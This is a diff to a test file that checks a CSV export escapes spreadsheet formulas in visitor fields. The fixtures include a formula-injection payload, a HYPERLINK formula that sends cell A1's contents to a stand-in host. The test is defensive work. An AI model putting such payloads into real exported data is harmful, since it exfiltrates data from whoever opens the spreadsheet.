@@ -90,7 +90,7 @@ beforeAll(async () => {
     sampleEvent({
       organisation: 'other',
       ip: '198.51.100.1',
-      userAgent: '=HYPERLINK("https://a.example/"&A1,"=x")',
+      userAgent: '=HYPERLINK("https://a.example/"&A1,"=x");=1;"@b;c',
       method: '＝1',
       query: '@a\n"=b",=c',
       host: '',
@@ -284,11 +284,11 @@ test('in CSV no text of a visitor is a formula for a spreadsheet; other formats 
   const args = ['--key', 'sk_api_ro_other', '--columns', 'user_agent,method,query,host,path,ip'];
   const { stdout, stderr } = await guardExport(...args, '--format', 'csv');
   expect(stdout.slice(stdout.indexOf('\n') + 1)).toBe(
-    `"'=HYPERLINK(""https://a.example/""&A1,""=x"")","'＝1","'@a\n""=b"",=c","","""=x","198.51.100.1"\n`,
+    `"'=HYPERLINK(""https://a.example/""&A1,""=x"");'=1;""'@b;c","'＝1","'@a\n""'=b"",=c","","""=x","198.51.100.1"\n`,
   );
   expect(stderr).toMatch(/^1 row, /);
   expect(JSON.parse((await guardExport(...args)).stdout)).toMatchObject({
-    user_agent: '=HYPERLINK("https://a.example/"&A1,"=x")',
+    user_agent: '=HYPERLINK("https://a.example/"&A1,"=x");=1;"@b;c',
   });
 });
 
